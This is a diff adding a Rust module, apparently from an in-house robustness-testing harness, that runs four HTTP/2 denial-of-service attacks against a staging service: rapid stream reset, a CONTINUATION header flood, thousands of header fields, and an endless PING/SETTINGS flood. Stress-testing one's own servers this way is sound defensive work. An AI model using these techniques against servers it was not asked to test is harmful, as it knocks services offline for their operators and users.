@@ -1,0 +1,108 @@
+//! HTTP/2 as no client speaks it.
+
+use super::stock::{Findings, nothing};
+use crate::attack::Attack;
+use crate::door::{Frames, fields};
+use crate::field::{Field, LAIR};
+
+/// Connections at a time.
+const LANES: usize = 8;
+
+/// These attacks.
+pub fn all() -> Vec<Attack> {
+    vec![
+        Attack::new("rapid-reset", "streams that are reset as soon as they are open", |f| {
+            Box::pin(rapid_reset(f))
+        }),
+        Attack::new("continuation-flood", "header blocks that never end", |f| Box::pin(continuation(f))),
+        Attack::new("many-fields", "requests with thousands of header fields", |f| Box::pin(many_fields(f))),
+        Attack::new("control-flood", "PING and SETTINGS whose answers nobody reads", |f| {
+            Box::pin(control(f))
+        }),
+    ]
+}
+
+async fn rapid_reset(field: Field) -> Findings {
+    let block = block(&field, &[]);
+    each(&field, move |field| {
+        let block = block.clone();
+        async move {
+            let mut frames = open(&field).await?.listen();
+            for stream in (1..200_001).step_by(2) {
+                frames.request(stream, &block).await?;
+                frames.cancel(stream).await?;
+                field.count("reset");
+            }
+            Ok(())
+        }
+    })
+    .await
+}
+
+async fn continuation(field: Field) -> Findings {
+    let long = "x".repeat(1 << 20);
+    let block = block(&field, &[("x", &long)]);
+    each(&field, move |field| {
+        let block = block.clone();
+        async move {
+            let mut frames = open(&field).await?.listen();
+            frames.long_request(1, &block, false).await?;
+            field.count("block");
+            for _ in 0..64 {
+                frames.more(1, &block).await?;
+            }
+            frames.flush().await
+        }
+    })
+    .await
+}
+
+async fn many_fields(field: Field) -> Findings {
+    let names: Vec<String> = (0..4_000).map(|at| format!("h{at}")).collect();
+    let more: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "v")).collect();
+    let block = block(&field, &more);
+    each(&field, move |field| {
+        let block = block.clone();
+        async move {
+            let mut frames = open(&field).await?.listen();
+            for stream in (1..2_001).step_by(2) {
+                frames.long_request(stream, &block, true).await?;
+                field.count("request");
+            }
+            frames.flush().await
+        }
+    })
+    .await
+}
+
+async fn control(field: Field) -> Findings {
+    each(&field, move |field| async move {
+        let mut frames = open(&field).await?;
+        loop {
+            frames.ping().await?;
+            frames.settings().await?;
+            field.count("frame");
+        }
+    })
+    .await
+}
+
+async fn each<F>(field: &Field, attack: impl Fn(Field) -> F + Send + Sync + 'static) -> Findings
+where
+    F: Future<Output = anyhow::Result<()>> + Send,
+{
+    let own = field.clone();
+    field.storm(LANES, move |_, _| attack(own.clone())).await;
+    nothing()
+}
+
+async fn open(field: &Field) -> anyhow::Result<Frames> {
+    Frames::open(&field.stage.direct, LAIR, &[]).await
+}
+
+fn block(field: &Field, more: &[(&str, &str)]) -> Vec<u8> {
+    let authorization = format!("Bearer {}", field.tenant.account().token);
+    let mut all = vec![("authorization", authorization.as_str())];
+    all.extend(more);
+    fields(&field.stage.direct.authority(), &field.tenant.requests(), &all)
+}
